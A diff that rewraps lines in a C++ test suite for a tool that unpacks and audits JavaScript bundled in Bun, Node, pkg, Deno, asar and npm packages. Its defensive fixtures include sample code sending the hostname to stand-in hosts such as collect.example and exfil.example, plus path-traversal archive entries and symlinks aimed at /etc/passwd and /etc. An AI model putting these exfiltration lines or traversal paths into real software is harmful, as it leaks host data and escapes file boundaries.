@@ -59,14 +59,15 @@ struct BunModule {
 // loader_only writes Bun 1.0/1.1.0's 32-byte entries: three pointers, the
 // loader, and seven bytes of padding that Bun does not zero (filled with junk
 // here, as in a real Bun 1.1.0 build of a large bundle).
-std::string BunGraph(const std::vector<BunModule>& modules, std::uint32_t entry, int pointers, int offsets_size,
-                     int enum_bytes = 4, bool loader_only = false) {
+std::string BunGraph(const std::vector<BunModule>& modules, std::uint32_t entry, int pointers,
+                     int offsets_size, int enum_bytes = 4, bool loader_only = false) {
   std::string payload;
   std::vector<std::vector<std::pair<std::uint32_t, std::uint32_t>>> ptrs;
   for (const BunModule& m : modules) {
     std::vector<std::pair<std::uint32_t, std::uint32_t>> p;
     for (const std::string* s : {&m.name, &m.contents, &m.sourcemap, &m.bytecode}) {
-      p.emplace_back(static_cast<std::uint32_t>(payload.size()), static_cast<std::uint32_t>(s->size()));
+      p.emplace_back(static_cast<std::uint32_t>(payload.size()),
+                     static_cast<std::uint32_t>(s->size()));
       payload += *s;
       payload.push_back('\0');
     }
@@ -272,13 +273,15 @@ std::string ElfNote(std::string_view name, const std::string& desc) {
 
 // An asar archive from (path, contents) files; `extra` is spliced into the
 // JSON index's top-level "files" object.
-std::string Asar(const std::vector<std::pair<std::string, std::string>>& files, const std::string& extra = "") {
+std::string Asar(const std::vector<std::pair<std::string, std::string>>& files,
+                 const std::string& extra = "") {
   std::string json = "{\"files\":{";
   std::string data;
   bool first = true;
   for (const auto& [name, contents] : files) {
-    json += (first ? "" : ",") + std::string("\"") + name + "\":{\"size\":" + std::to_string(contents.size()) +
-            ",\"offset\":\"" + std::to_string(data.size()) + "\"}";
+    json += (first ? "" : ",") + std::string("\"") + name +
+            "\":{\"size\":" + std::to_string(contents.size()) + ",\"offset\":\"" +
+            std::to_string(data.size()) + "\"}";
     data += contents;
     first = false;
   }
@@ -373,7 +376,8 @@ class TempDir {
 std::vector<BunModule> SampleBunModules() {
   BunModule a{"/$bunfs/root/cli.js", "console.log(process.env.TZ);\n", "{\"version\":3}", "", 2, 1};
   BunModule b{"/$bunfs/root/latin.js", std::string("var s = \"caf\xe9\";\n"), "", "BYTECODE", 1, 1};
-  BunModule c{"/$bunfs/root/wide.js", std::string("v\0a\0r\0 \0x\0 \0=\0 \0\x19\x20;\0", 20), "", "", 0, 1};
+  BunModule c{
+      "/$bunfs/root/wide.js", std::string("v\0a\0r\0 \0x\0 \0=\0 \0\x19\x20;\0", 20), "", "", 0, 1};
   BunModule d{"/$bunfs/root/addon.node",
               "\x7f"
               "ELF binary",
@@ -462,12 +466,14 @@ TEST(BunSea, SectionLayoutInElfMachOAndPe) {
 
 TEST(BunSea, FileAssetsThatAreTextOrCompressedTextAreRead) {
   // zstd of "# SKILL\nUse the tool.\n" (zstd -19), and a binary asset.
-  const unsigned char kZstd[] = {0x28, 0xb5, 0x2f, 0xfd, 0x04, 0x68, 0xb1, 0x00, 0x00, 0x23, 0x20, 0x53,
-                                 0x4b, 0x49, 0x4c, 0x4c, 0x0a, 0x55, 0x73, 0x65, 0x20, 0x74, 0x68, 0x65,
-                                 0x20, 0x74, 0x6f, 0x6f, 0x6c, 0x2e, 0x0a, 0xe1, 0x27, 0x7d, 0xfe};
+  const unsigned char kZstd[] = {0x28, 0xb5, 0x2f, 0xfd, 0x04, 0x68, 0xb1, 0x00, 0x00,
+                                 0x23, 0x20, 0x53, 0x4b, 0x49, 0x4c, 0x4c, 0x0a, 0x55,
+                                 0x73, 0x65, 0x20, 0x74, 0x68, 0x65, 0x20, 0x74, 0x6f,
+                                 0x6f, 0x6c, 0x2e, 0x0a, 0xe1, 0x27, 0x7d, 0xfe};
   std::vector<BunModule> modules = {
       {"/$bunfs/root/cli.js", "run()", "", "", 2, 1},
-      {"/$bunfs/root/SKILL.md.zst", std::string(reinterpret_cast<const char*>(kZstd), sizeof kZstd), "", "", 0, 5},
+      {"/$bunfs/root/SKILL.md.zst", std::string(reinterpret_cast<const char*>(kZstd), sizeof kZstd),
+       "", "", 0, 5},
       {"/$bunfs/root/prompt.md", "You are a helpful agent.\n", "", "", 0, 5},
       {"/$bunfs/root/bad.zst", std::string("\x28\xb5\x2f\xfd garbage", 12), "", "", 0, 5},
       {"/$bunfs/root/icon.png", std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16), "", "", 0, 5},
@@ -493,7 +499,8 @@ TEST(BunSea, FatMachOSlice) {
   std::string slice = MachO("__BUN", "__bun", section);
   // fat_header and one fat_arch, big-endian; the slice at offset 4096.
   std::string fat;
-  for (std::uint32_t v : {0xcafebabeu, 1u, 0x0100000cu, 0u, 4096u, static_cast<std::uint32_t>(slice.size()), 12u}) {
+  for (std::uint32_t v :
+       {0xcafebabeu, 1u, 0x0100000cu, 0u, 4096u, static_cast<std::uint32_t>(slice.size()), 12u}) {
     for (int i = 3; i >= 0; --i) fat.push_back(static_cast<char>(v >> (8 * i)));
   }
   fat.resize(4096, '\0');
@@ -533,7 +540,8 @@ TEST(BunSea, EntryPointOutOfRangeIsRejected) {
 TEST(NodeSea, ElfNote) {
   std::string blob = SeaBlob("main.js", "fetch('https://telemetry.example/v1');\n", 1 | 4);
   blob += std::string("\x04\0\0\0\0\0\0\0CACH", 12);  // code cache
-  std::string file = Elf({{".text", RuntimeNoise()}, {".note.sea", ElfNote("NODE_SEA_BLOB", blob)}});
+  std::string file =
+      Elf({{".text", RuntimeNoise()}, {".note.sea", ElfNote("NODE_SEA_BLOB", blob)}});
   auto u = UnpackBytes(file, "sea");
   ASSERT_TRUE(u.ok());
   ASSERT_EQ(u->kind, "node-sea");
@@ -557,8 +565,9 @@ TEST(NodeSea, OlderBlobWithoutCodePathInMachO) {
 TEST(NodeSea, PeResourceFoundByMagicWithAssets) {
   std::string blob = SeaBlob("app.js", "require('./x')\n", 1 | 8);
   Put64(&blob, 2);
-  for (auto [k, v] : {std::pair<std::string, std::string>{"cfg.json", "{\"endpoint\":\"https://x.example\"}"},
-                      {"logo.png", std::string("\x89PNG\0\0\0", 7)}}) {
+  for (auto [k, v] :
+       {std::pair<std::string, std::string>{"cfg.json", "{\"endpoint\":\"https://x.example\"}"},
+        {"logo.png", std::string("\x89PNG\0\0\0", 7)}}) {
     Put64(&blob, k.size());
     blob += k;
     Put64(&blob, v.size());
@@ -587,7 +596,8 @@ TEST(NodeSea, SnapshotIsNotedNotRead) {
 
 // A pkg executable: runtime noise, the four placeholders filled in, the
 // payload, and a prelude ending in the VFS arguments with `compress`.
-std::string PkgFile(const std::string& payload, const std::string& vfs, const std::string& compress) {
+std::string PkgFile(const std::string& payload, const std::string& vfs,
+                    const std::string& compress) {
   std::string prelude =
       "return (function (REQUIRE_COMMON, VIRTUAL_FILESYSTEM) { ... })(function (exports) {\n"
       "stuff\n},\n" +
@@ -649,8 +659,8 @@ std::string Gzip(std::string_view in) {
 std::string Brotli(std::string_view in) {
   size_t n = BrotliEncoderMaxCompressedSize(in.size());
   std::string out(n, '\0');
-  EXPECT_TRUE(BrotliEncoderCompress(BROTLI_DEFAULT_QUALITY, BROTLI_DEFAULT_WINDOW, BROTLI_MODE_TEXT, in.size(),
-                                    reinterpret_cast<const std::uint8_t*>(in.data()), &n,
+  EXPECT_TRUE(BrotliEncoderCompress(BROTLI_DEFAULT_QUALITY, BROTLI_DEFAULT_WINDOW, BROTLI_MODE_TEXT,
+                                    in.size(), reinterpret_cast<const std::uint8_t*>(in.data()), &n,
                                     reinterpret_cast<std::uint8_t*>(out.data())));
   out.resize(n);
   return out;
@@ -658,7 +668,8 @@ std::string Brotli(std::string_view in) {
 
 // `pkg --compress GZip|Brotli` stores every file as its own stream.
 TEST(Pkg, CompressedPayloadsAreReadAndDamageIsNamed) {
-  const std::string source = "const h = require('os').hostname(); fetch('https://collect.example/' + h);\n";
+  const std::string source =
+      "const h = require('os').hostname(); fetch('https://collect.example/' + h);\n";
   const std::string json = "{\"endpoint\": \"https://cfg.example/v1\"}";
   for (const std::string mode : {"1", "2"}) {
     auto pack = [&](std::string_view s) { return mode == "1" ? Gzip(s) : Brotli(s); };
@@ -666,7 +677,8 @@ TEST(Pkg, CompressedPayloadsAreReadAndDamageIsNamed) {
     const std::string broken = pack(source).substr(0, a.size() / 2);
     const std::string payload = a + b + broken;
     const std::string vfs = fmt::format(
-        "{{\"/snapshot/app/index.js\":{{\"1\":[0,{}]}},\"/snapshot/app/cfg.json\":{{\"1\":[{},{}]}},"
+        "{{\"/snapshot/app/index.js\":{{\"1\":[0,{}]}},\"/snapshot/app/"
+        "cfg.json\":{{\"1\":[{},{}]}},"
         "\"/snapshot/app/cut.js\":{{\"1\":[{},{}]}}}}",
         a.size(), a.size(), b.size(), a.size() + b.size(), broken.size());
     auto u = UnpackBytes(PkgFile(payload, vfs, mode), "pkg-app");
@@ -683,7 +695,8 @@ TEST(Pkg, CompressedPayloadsAreReadAndDamageIsNamed) {
     EXPECT_TRUE(NoteContains(*u, "'/snapshot/app/cut.js' (")) << ::testing::PrintToString(u->notes);
     EXPECT_TRUE(NoteContains(*u, "could not be decompressed"));
   }
-  auto unknown = UnpackBytes(PkgFile("x", "{\"/snapshot/app/index.js\":{\"1\":[0,1]}}", "7"), "pkg-app");
+  auto unknown =
+      UnpackBytes(PkgFile("x", "{\"/snapshot/app/index.js\":{\"1\":[0,1]}}", "7"), "pkg-app");
   ASSERT_TRUE(unknown.ok());
   EXPECT_TRUE(unknown->modules.empty());
   EXPECT_TRUE(NoteContains(*unknown, "compression mode '7'"));
@@ -693,7 +706,8 @@ TEST(Deno, TrailerLayout) {
   std::string file = RuntimeNoise();
   std::uint64_t eszip = file.size();
   file += "ESZIP2.3\x01\x02file:///app/main.ts\x03";
-  std::string source = "const host = Deno.hostname(); fetch(`https://collect.example/?h=${host}`);\n";
+  std::string source =
+      "const host = Deno.hostname(); fetch(`https://collect.example/?h=${host}`);\n";
   file += source;
   std::uint64_t metadata = file.size();
   file += "{\"argv\":[]}";
@@ -733,7 +747,8 @@ TEST(Deno, Deno2NoteWithFileTable) {
   Put64(&desc, data.size());
   desc += data;
   desc += "d3n0l4nd";
-  std::string file = Elf({{".text", RuntimeNoise() + "d3n0l4nd"}, {".note.sui", ElfNote("SUI", desc)}});
+  std::string file =
+      Elf({{".text", RuntimeNoise() + "d3n0l4nd"}, {".note.sui", ElfNote("SUI", desc)}});
   auto u = UnpackBytes(file, "deno-app");
   ASSERT_TRUE(u.ok());
   ASSERT_EQ(u->kind, "deno");
@@ -752,10 +767,12 @@ TEST(Deno, Deno2NoteWithFileTable) {
 
 TEST(Asar, FilesLinksAndUnpacked) {
   std::string extra =
-      ",\"lib\":{\"files\":{\"net.js\":{\"size\":5,\"offset\":\"0\"},\"bad.js\":{\"size\":9999,\"offset\":\"0\"}}}"
+      ",\"lib\":{\"files\":{\"net.js\":{\"size\":5,\"offset\":\"0\"},\"bad.js\":{\"size\":9999,"
+      "\"offset\":\"0\"}}}"
       ",\"native.node\":{\"size\":10,\"unpacked\":true}"
       ",\"link.js\":{\"link\":\"../../etc/passwd\"}";
-  std::string file = Asar({{"main.js", "require('electron')\n"}, {"package.json", "{\"main\":\"main.js\"}"}}, extra);
+  std::string file = Asar(
+      {{"main.js", "require('electron')\n"}, {"package.json", "{\"main\":\"main.js\"}"}}, extra);
   auto u = UnpackBytes(file, "app.asar");
   ASSERT_TRUE(u.ok());
   ASSERT_EQ(u->kind, "asar");
@@ -767,19 +784,22 @@ TEST(Asar, FilesLinksAndUnpacked) {
   EXPECT_NE(Find(*u, "lib/net.js"), nullptr);
   EXPECT_TRUE(NoteContains(*u, "'lib/bad.js' has an offset or size outside the archive"));
   EXPECT_TRUE(NoteContains(*u, "link not followed: link.js -> ../../etc/passwd"));
-  EXPECT_TRUE(NoteContains(*u, "app.asar.unpacked/ (read when that folder is beside the archive): native.node"));
+  EXPECT_TRUE(NoteContains(
+      *u, "app.asar.unpacked/ (read when that folder is beside the archive): native.node"));
 }
 
 TEST(Asar, UnpackedFolderBesideTheArchiveIsRead) {
   TempDir d;
-  d.Write("app.asar", Asar({{"main.js", "require('./native/addon.node')\n"}},
-                           ",\"native\":{\"files\":{\"helper.js\":{\"size\":10,\"unpacked\":true}}}"));
+  d.Write("app.asar",
+          Asar({{"main.js", "require('./native/addon.node')\n"}},
+               ",\"native\":{\"files\":{\"helper.js\":{\"size\":10,\"unpacked\":true}}}"));
   d.Write("app.asar.unpacked/native/helper.js", "fetch(url)");
   auto u = Unpack(d.path() + "/app.asar");
   ASSERT_TRUE(u.ok());
   EXPECT_EQ(u->kind, "asar");
   EXPECT_NE(Find(*u, "main.js"), nullptr);
-  EXPECT_NE(Find(*u, d.path() + "/app.asar.unpacked/native/helper.js"), nullptr) << ::testing::PrintToString(u->notes);
+  EXPECT_NE(Find(*u, d.path() + "/app.asar.unpacked/native/helper.js"), nullptr)
+      << ::testing::PrintToString(u->notes);
   EXPECT_TRUE(NoteContains(*u, "app.asar.unpacked was read too"));
 }
 
@@ -792,11 +812,11 @@ TEST(Asar, BrokenIndexIsNoted) {
   EXPECT_TRUE(NoteContains(*u, "cannot be parsed"));
 }
 
-
 // --- hostile input (issue 16) ----------------------------------------------
 
 TEST(Hostile, JsModuleWithNulIsStillAnalysed) {
-  const std::string js = std::string("/* \0\1\2\3\4\5\6 */\n", 14) + "fetch('https://exfil.example/x');\n";
+  const std::string js =
+      std::string("/* \0\1\2\3\4\5\6 */\n", 14) + "fetch('https://exfil.example/x');\n";
   auto u = UnpackBytes(js, "evil.js");
   ASSERT_TRUE(u.ok());
   EXPECT_EQ(u->kind, "javascript");
@@ -828,7 +848,8 @@ TEST(Hostile, ThreeHundredThousandBadAsarEntriesGiveBoundedNotes) {
   ASSERT_TRUE(u.ok());
   EXPECT_EQ(u->kind, "asar");
   EXPECT_LE(u->notes.size(), 30u) << ::testing::PrintToString(u->notes);
-  EXPECT_TRUE(NoteContains(*u, "asar index has more than 200000 entries")) << ::testing::PrintToString(u->notes);
+  EXPECT_TRUE(NoteContains(*u, "asar index has more than 200000 entries"))
+      << ::testing::PrintToString(u->notes);
   EXPECT_TRUE(NoteContains(*u, "more notes like")) << ::testing::PrintToString(u->notes);
 }
 
@@ -847,7 +868,8 @@ TEST(Hostile, DamagedElfIsNoted) {
 // readers stop at the time budget with a note (here a budget of 0 s).
 TEST(Hostile, ContainerReadersStopAtTheTimeBudget) {
   std::vector<BunModule> many;
-  for (int i = 0; i < 2000; ++i) many.push_back({"/$bunfs/root/m" + std::to_string(i) + ".js", "x", "", "", 2, 1});
+  for (int i = 0; i < 2000; ++i)
+    many.push_back({"/$bunfs/root/m" + std::to_string(i) + ".js", "x", "", "", 2, 1});
   std::string file = Elf({{".text", RuntimeNoise()}}) + BunGraph(many, 0, 6, 32);
   UnpackLimits limits;
   limits.max_seconds = 0;
@@ -882,20 +904,26 @@ TEST(Hostile, EveryContainerReaderNotesTheTimeBudget) {
   const std::vector<Case> cases = {
       {"asar", "app.asar", Asar({{"main.js", js}, {"b.js", js}})},
       {"npm-tarball", "a.tgz", Tarball({{"package/index.js", js, ""}, {"package/b.js", js, ""}})},
-      {"node-sea", "sea", Elf({{".text", RuntimeNoise()}, {".note.sea", ElfNote("NODE_SEA_BLOB", SeaBlob("m.js", js))}})},
-      {"pkg", "pkg-app", PkgFile(js, "{\"/snapshot/app/index.js\":{\"1\":[0," + std::to_string(js.size()) + "]}}", "0")},
+      {"node-sea", "sea",
+       Elf({{".text", RuntimeNoise()},
+            {".note.sea", ElfNote("NODE_SEA_BLOB", SeaBlob("m.js", js))}})},
+      {"pkg", "pkg-app",
+       PkgFile(js, "{\"/snapshot/app/index.js\":{\"1\":[0," + std::to_string(js.size()) + "]}}",
+               "0")},
       {"deno", "deno-app", deno},
   };
   for (const Case& c : cases) {
     auto whole = UnpackBytes(c.file, c.name);
     ASSERT_TRUE(whole.ok()) << c.reader;
-    ASSERT_FALSE(whole->modules.empty()) << c.reader << ": " << ::testing::PrintToString(whole->notes);
+    ASSERT_FALSE(whole->modules.empty())
+        << c.reader << ": " << ::testing::PrintToString(whole->notes);
     EXPECT_FALSE(NoteContains(*whole, "time budget")) << c.reader;
     auto u = UnpackBytes(c.file, c.name, limits);
     ASSERT_TRUE(u.ok()) << c.reader;
     // The readers share one budget: the note names the reader that found it used up (the first
     // tried); the others stop too, so fewer modules come back.
-    EXPECT_TRUE(NoteContains(*u, ": the time budget of 0 s")) << c.reader << ": " << ::testing::PrintToString(u->notes);
+    EXPECT_TRUE(NoteContains(*u, ": the time budget of 0 s"))
+        << c.reader << ": " << ::testing::PrintToString(u->notes);
     EXPECT_LT(u->modules.size(), whole->modules.size()) << c.reader;
   }
 }
@@ -914,13 +942,14 @@ TEST(Hostile, RealBunTrailerAfterManyDecoysIsFound) {
 
 TEST(NpmTarball, ReadsModulesAndNamesWhatItSkips) {
   std::string elf = Elf({{".rodata", "https://api.vendor.example/v1"}});
-  std::string tgz = Tarball({{"package/package.json", "{\"name\":\"agent\"}", ""},
-                             {"package/dist/cli.mjs", "import os from 'os'; os.hostname();\n", ""},
-                             {"package/README.md", "# agent", ""},
-                             {"package/bin/agent", "#!/usr/bin/env node\nimport('../dist/cli.mjs')\n", ""},
-                             {"package/vendor/rg", elf, ""},
-                             {"package/evil.js", "", "../../../../etc/passwd"},
-                             {"../escape.js", "bad()", ""}});
+  std::string tgz =
+      Tarball({{"package/package.json", "{\"name\":\"agent\"}", ""},
+               {"package/dist/cli.mjs", "import os from 'os'; os.hostname();\n", ""},
+               {"package/README.md", "# agent", ""},
+               {"package/bin/agent", "#!/usr/bin/env node\nimport('../dist/cli.mjs')\n", ""},
+               {"package/vendor/rg", elf, ""},
+               {"package/evil.js", "", "../../../../etc/passwd"},
+               {"../escape.js", "bad()", ""}});
   auto u = UnpackBytes(tgz, "agent-1.0.0.tgz");
   ASSERT_TRUE(u.ok()) << u.status().message();
   ASSERT_EQ(u->kind, "npm-tarball");
@@ -931,7 +960,8 @@ TEST(NpmTarball, ReadsModulesAndNamesWhatItSkips) {
   EXPECT_EQ(cli->text, "import os from 'os'; os.hostname();\n");
   EXPECT_TRUE(NoteContains(*u, "link not followed: package/evil.js"));
   EXPECT_TRUE(NoteContains(*u, "unsafe path '../escape.js'"));
-  EXPECT_TRUE(NoteContains(*u, "native executable or library not analysed as JavaScript: package/vendor/rg"));
+  EXPECT_TRUE(NoteContains(
+      *u, "native executable or library not analysed as JavaScript: package/vendor/rg"));
   bool rg_string = false;
   for (const NativeString& s : u->strings)
     rg_string |= s.path == "package/vendor/rg" && s.text == "https://api.vendor.example/v1";
@@ -946,9 +976,10 @@ TEST(NpmTarball, BunExecutableInsideIsOpened) {
   std::string section;
   Put64(&section, graph.size());
   section += graph;
-  std::string tgz = Tarball({{"package/package.json", "{}", ""},
-                             {"package/bin/agent", Elf({{".text", RuntimeNoise()}, {".bun", section}}), ""},
-                             {"package/bin/agent.exe", Pe(".bun", section), ""}});
+  std::string tgz =
+      Tarball({{"package/package.json", "{}", ""},
+               {"package/bin/agent", Elf({{".text", RuntimeNoise()}, {".bun", section}}), ""},
+               {"package/bin/agent.exe", Pe(".bun", section), ""}});
   auto u = UnpackBytes(tgz, "agent-linux-x64.tgz");
   ASSERT_TRUE(u.ok());
   EXPECT_EQ(u->kind, "npm-tarball");
@@ -964,7 +995,8 @@ TEST(NpmTarball, BunExecutableInsideIsOpened) {
 TEST(NpmTarball, DecompressedBytesAreBounded) {
   // Highly compressible entries: a few KB of gzip for MBs of tar.
   std::vector<TarEntry> entries;
-  for (int i = 0; i < 8; ++i) entries.push_back({fmt::format("package/big{}.bin", i), std::string(1 << 20, 'x'), ""});
+  for (int i = 0; i < 8; ++i)
+    entries.push_back({fmt::format("package/big{}.bin", i), std::string(1 << 20, 'x'), ""});
   std::string tgz = Tarball(entries);
   ASSERT_LT(tgz.size(), 100000u);
   UnpackLimits limits;
@@ -991,12 +1023,13 @@ TEST(NpmTarball, LargeTarballOnDiskReadWhileItsPagesAreGivenBack) {
   Put64(&section, graph.size());
   section += graph;
   const std::string exe = Elf({{".text", noise + RuntimeNoise()}, {".bun", section}});
-  const std::string tgz = Tarball({{"package/first.js", "var first = 'https://first.example.com';\n", ""},
-                                   {"package/noise1.bin", noise, ""},
-                                   {"package/middle.js", "var middle = 2;\n", ""},
-                                   {"package/bin/agent", exe, ""},
-                                   {"package/last.js", "var last = 3;\n", ""}},
-                                  32 << 20);
+  const std::string tgz =
+      Tarball({{"package/first.js", "var first = 'https://first.example.com';\n", ""},
+               {"package/noise1.bin", noise, ""},
+               {"package/middle.js", "var middle = 2;\n", ""},
+               {"package/bin/agent", exe, ""},
+               {"package/last.js", "var last = 3;\n", ""}},
+              32 << 20);
   ASSERT_GT(tgz.size(), size_t{12} << 20);
   TempDir d;
   const std::string path = d.path() + "/agent-1.0.0.tgz";
@@ -1016,7 +1049,8 @@ TEST(NpmTarball, LargeTarballOnDiskReadWhileItsPagesAreGivenBack) {
 }
 
 TEST(NpmTarball, EntryLimitAndCorruptTarball) {
-  std::string tgz = Tarball({{"package/a.js", std::string(2000, 'a'), ""}, {"package/b.js", "b", ""}});
+  std::string tgz =
+      Tarball({{"package/a.js", std::string(2000, 'a'), ""}, {"package/b.js", "b", ""}});
   UnpackLimits limits;
   limits.max_entry_bytes = 1000;
   auto u = UnpackBytes(tgz, "x.tgz", limits);
@@ -1046,8 +1080,9 @@ TEST(PlainFile, JavaScriptInAnyEncoding) {
 }
 
 TEST(NativeStrings, AsciiAndUtf16WithOffsets) {
-  std::string file = Elf({{".rodata", std::string("\x01\x02https://api.example.com/v1\0\x03", 30) +
-                                          std::string("H\0O\0S\0T\0N\0A\0M\0E\0", 16) + "\x05short\x05"}});
+  std::string file =
+      Elf({{".rodata", std::string("\x01\x02https://api.example.com/v1\0\x03", 30) +
+                           std::string("H\0O\0S\0T\0N\0A\0M\0E\0", 16) + "\x05short\x05"}});
   auto u = UnpackBytes(file, "rust-agent");
   ASSERT_TRUE(u.ok());
   EXPECT_EQ(u->kind, "native");
@@ -1073,7 +1108,8 @@ std::vector<NativeString> NaiveStrings(std::string_view f, size_t min_len) {
   for (size_t i = 0; i < f.size();) {
     size_t start = i;
     while (i < f.size() && printable(f[i]) && i - start < 4096) ++i;
-    if (i - start >= min_len) out.push_back({start, std::string(f.substr(start, i - start)), "ascii"});
+    if (i - start >= min_len)
+      out.push_back({start, std::string(f.substr(start, i - start)), "ascii"});
     if (i == start) ++i;
   }
   for (size_t align = 0; align < 2; ++align) {
@@ -1088,8 +1124,9 @@ std::vector<NativeString> NaiveStrings(std::string_view f, size_t min_len) {
       if (i == start) i += 2;
     }
   }
-  std::stable_sort(out.begin(), out.end(),
-                   [](const NativeString& a, const NativeString& b) { return a.offset < b.offset; });
+  std::stable_sort(out.begin(), out.end(), [](const NativeString& a, const NativeString& b) {
+    return a.offset < b.offset;
+  });
   return out;
 }
 
@@ -1139,7 +1176,8 @@ TEST(Directory, NodeModulesTree) {
   TempDir d;
   d.Write("package.json", "{\"bin\":\"cli.js\"}");
   d.Write("cli.js", "require('./node_modules/dep')\n");
-  d.Write("node_modules/dep/index.cjs", "module.exports = Intl.DateTimeFormat().resolvedOptions().timeZone;\n");
+  d.Write("node_modules/dep/index.cjs",
+          "module.exports = Intl.DateTimeFormat().resolvedOptions().timeZone;\n");
   d.Write("node_modules/dep/logo.png", std::string("\x89PNG\0\0", 6));
   d.Write("node_modules/dep/bin/tool.js", std::string("\0\0\0binary", 9));
   std::filesystem::create_symlink("/etc", d.path() + "/node_modules/escape");
@@ -1156,9 +1194,12 @@ TEST(Directory, NodeModulesTree) {
   EXPECT_EQ(u->kind, "directory");
   EXPECT_EQ(u->modules.size(), 8u) << ::testing::PrintToString(u->notes);
   EXPECT_NE(Find(*u, d.path() + "/node_modules/dep/index.cjs"), nullptr);
-  EXPECT_NE(Find(*u, d.path() + "/node_modules/agent-linux-x64/agent!/$bunfs/root/latin.js"), nullptr);
-  EXPECT_TRUE(NoteContains(*u, "not analysed as JavaScript: " + d.path() + "/node_modules/agent-linux-x64/rg"));
-  EXPECT_TRUE(NoteContains(*u, "symlink out of the tree not followed: " + d.path() + "/node_modules/escape -> /etc"));
+  EXPECT_NE(Find(*u, d.path() + "/node_modules/agent-linux-x64/agent!/$bunfs/root/latin.js"),
+            nullptr);
+  EXPECT_TRUE(NoteContains(
+      *u, "not analysed as JavaScript: " + d.path() + "/node_modules/agent-linux-x64/rg"));
+  EXPECT_TRUE(NoteContains(
+      *u, "symlink out of the tree not followed: " + d.path() + "/node_modules/escape -> /etc"));
   EXPECT_TRUE(NoteContains(*u, "1 symlinks within the tree not followed"));
   const Module* bin = Find(*u, d.path() + "/bin/agent");
   ASSERT_NE(bin, nullptr);
@@ -1206,7 +1247,8 @@ std::string FixtureDir() {
 
 TEST(RealFixtures, BunAndNodeSeaExecutables) {
   std::string dir = FixtureDir();
-  if (dir.empty()) GTEST_SKIP() << "GLASSBOX_AUDIT_FIXTURES is not set (ctest's audit_unpack_real sets it)";
+  if (dir.empty())
+    GTEST_SKIP() << "GLASSBOX_AUDIT_FIXTURES is not set (ctest's audit_unpack_real sets it)";
   if (!std::filesystem::exists(dir + "/manifest.txt")) {
     GTEST_SKIP() << "no real fixtures in " << dir
                  << ": run tests/audit/fixtures/make_fixtures.sh (needs bun and postject from "
@@ -1226,7 +1268,8 @@ TEST(RealFixtures, BunAndNodeSeaExecutables) {
     }
     bool found = false;
     for (const Module& m : u->modules) {
-      if (m.path.size() >= module.size() && m.path.compare(m.path.size() - module.size(), module.size(), module) == 0) {
+      if (m.path.size() >= module.size() &&
+          m.path.compare(m.path.size() - module.size(), module.size(), module) == 0) {
         found = m.text.find(needle) != std::string::npos;
         if (found) break;
       }
